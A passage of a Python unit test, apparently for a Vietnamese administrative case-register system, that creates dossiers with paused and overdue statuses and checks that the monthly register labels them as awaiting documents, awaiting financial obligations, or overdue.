        received_at=dt.datetime(2026, 3, 2, 10, 0, tzinfo=VN),
        due_at=due,
        paused_at=dt.datetime(2026, 3, 6, 9, 0, tzinfo=VN),
    )
    people.dossier(  # still running, late
        Status.IN_PROCESS,
        code="H56.HT-260302-0003",
        received_at=dt.datetime(2026, 3, 2, 11, 0, tzinfo=VN),
        due_at=due,
    )

    with at(2026, 3, 20, 9, 0):
        rows = list(
            register_rows(
                register_dossiers(
                    user=people.reception,
                    point=people.point,
                    start=dt.date(2026, 3, 1),
                    end=dt.date(2026, 3, 31),
                ),
                Totals(),
            )
        )

    assert [(row.code, row.note) for row in rows] == [
        ("H56.HT-260302-0001", "Chờ bổ sung hồ sơ"),
        ("H56.HT-260302-0002", "Chờ thực hiện nghĩa vụ tài chính; Quá hạn"),
        ("H56.HT-260302-0003", "Quá hạn"),
    ]
